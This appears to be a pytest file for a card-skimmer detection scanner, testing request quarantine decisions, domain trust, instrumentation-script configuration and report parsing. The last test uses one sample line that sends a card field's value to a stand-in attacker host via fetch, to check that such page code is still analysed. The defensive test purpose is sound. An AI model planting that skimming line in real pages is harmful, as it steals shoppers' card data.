"""Quarantine decisions and the instrumentation script (no browser)."""

from __future__ import annotations

import json

import pytest

from skimscan.capture.instrument import PLACEHOLDER, build
from skimscan.capture.quarantine import Quarantine, Trust, default_trust, site_of
from skimscan.models import Canary
from skimscan.policy.policy import SitePolicy
from skimscan.scanner import trust_for


def test_nothing_is_held_before_the_canary_is_typed() -> None:
    q = Quarantine(default_trust("https://shop.example/checkout"))
    assert q.decide("evil.example", "POST", navigation=False) == "forward"
    assert q.armed_at is None


@pytest.mark.parametrize(
    ("host", "method", "navigation", "live", "paying", "decision"),
    [
        ("evil.example", "GET", False, False, False, "quarantine"),
        ("evil.example", "POST", False, False, False, "quarantine"),
        ("", "GET", False, False, False, "quarantine"),  # unknown means untrusted
        ("shop.example", "POST", False, False, False, "forward"),
        ("cdn.shop.example", "GET", False, False, False, "forward"),
        ("evil.example", "POST", False, True, False, "forward"),  # --live
        # the pay submission: held, live or not
        ("shop.example", "POST", False, False, True, "hold"),
        ("shop.example", "POST", False, True, True, "hold"),
        ("shop.example", "GET", True, False, True, "hold"),
        ("shop.example", "GET", False, False, True, "forward"),
        ("evil.example", "GET", True, True, True, "hold"),
        ("evil.example", "GET", True, False, True, "quarantine"),
    ],
)
def test_decisions(host: str, method: str, navigation: bool, live: bool, paying: bool,
                   decision: str) -> None:
    q = Quarantine(default_trust("https://shop.example/checkout"), live=live)
    q.arm()
    if paying:
        q.hold_payment()
    assert q.armed and q.armed_at is not None
    assert q.decide(host, method, navigation=navigation) == decision


def test_default_trust_is_the_page_s_site() -> None:
    trust = default_trust("https://www.shop.co.uk/checkout")
    assert trust.domains == ("shop.co.uk",)
    assert trust.is_trusted("static.shop.co.uk") and trust.is_trusted("SHOP.CO.UK.")
    assert not trust.is_trusted("shop.co.uk.evil.example")
    assert not trust.is_trusted("co.uk")
    assert site_of("a.b.shop.example") == "shop.example"


def test_the_scanner_trusts_processors_and_the_policy() -> None:
    site = SitePolicy(approved_hosts=("*.reviews.example", "cdn.assets.example"),
                      processors=("pay.local-psp.example",))
    trust = trust_for("https://www.shop.example/checkout", site)
    for host in ("www.shop.example", "api.stripe.com", "m.stripe.com", "x.reviews.example",
                 "cdn.assets.example", "pay.local-psp.example"):
        assert trust.is_trusted(host), host
    for host in ("www.google-analytics.com", "slripe.com", "evil.example", "assets.example"):
        assert not trust.is_trusted(host), host
    assert {"shop.example", "stripe.com", "reviews.example", "pay.local-psp.example"} <= set(
        trust.domains)


def test_the_instrumentation_script_is_configured_per_page() -> None:
    canary = Canary.generate(seed=1)
    one = build(canary, live=False, trusted_domains=["shop.example", ".Stripe.com"])
    two = build(canary, live=True, trusted_domains=[])
    assert one.nonce != two.nonce and one.source_url != two.source_url
    assert PLACEHOLDER not in one.script
    assert one.script.rstrip().endswith(f"//# sourceURL={one.source_url}")
    config = json.loads(one.script.rsplit("})(", 1)[1].split(");\n", 1)[0])
    assert config["trusted"] == ["shop.example", "stripe.com"] and config["live"] is False
    assert config["pan"] == canary.pan and "cvv" not in config  # only what recognises fields
    assert "skimscan" not in one.script.lower()  # nothing in the page names the scanner


def test_reports_are_parsed_only_with_the_nonce() -> None:
    inst = build(Canary.generate(seed=2), live=False, trusted_domains=[])
    event = inst.parse(inst.nonce + json.dumps({"k": "read", "d": {"field": "#cc", "n": 3}}))
    assert event == {"k": "read", "d": {"field": "#cc", "n": "3"}}
    assert inst.parse("hello") is None
    assert inst.parse(inst.nonce + "{broken") is None
    assert inst.parse(inst.nonce + json.dumps(["k"])) is None
    assert inst.parse(inst.nonce + json.dumps({"k": "sink", "d": "x"})) == {"k": "sink", "d": {}}


def test_trust_is_a_plain_value() -> None:
    trust = Trust(lambda host: host == "a.example", ("a.example",))
    assert trust.is_trusted("a.example") and not trust.is_trusted("b.example")


@pytest.mark.parametrize(
    ("host", "live", "armed", "untrusted", "holds"),
    [
        ("evil.example", False, False, True, False),  # inspected, but nothing typed yet
        ("evil.example", False, True, True, True),
        ("", False, True, True, True),  # unknown means untrusted
        ("cdn.shop.example", False, True, False, False),  # tunnelled: the page's own site
        ("evil.example", True, True, False, False),  # --live: tunnelled, never held
    ],
)
def test_the_egress_proxy_questions(host: str, live: bool, armed: bool, untrusted: bool,
                                    holds: bool) -> None:
    q = Quarantine(default_trust("https://shop.example/checkout"), live=live)
    if armed:
        q.arm()
    assert (q.untrusted(host), q.holds(host)) == (untrusted, holds)


def test_only_the_clock_api_s_exact_calls_are_left_out_of_the_page_s_scripts() -> None:
    from skimscan.capture.recorder import _CLOCK_CALL

    assert _CLOCK_CALL.fullmatch("globalThis.__pwClock.controller.runFor(3000)")
    assert _CLOCK_CALL.fullmatch("globalThis.__pwClock.controller.fastForward(300000)")
    assert _CLOCK_CALL.fullmatch(
        "(() => {\n      globalThis.__pwClock.controller.log('install', 17, 17)\n    })();")
    # code that merely starts like one is the page's, and is analysed
    assert not _CLOCK_CALL.fullmatch(
        "globalThis.__pwClock.controller.runFor(1);fetch('//evil.example/'+cc.value)")
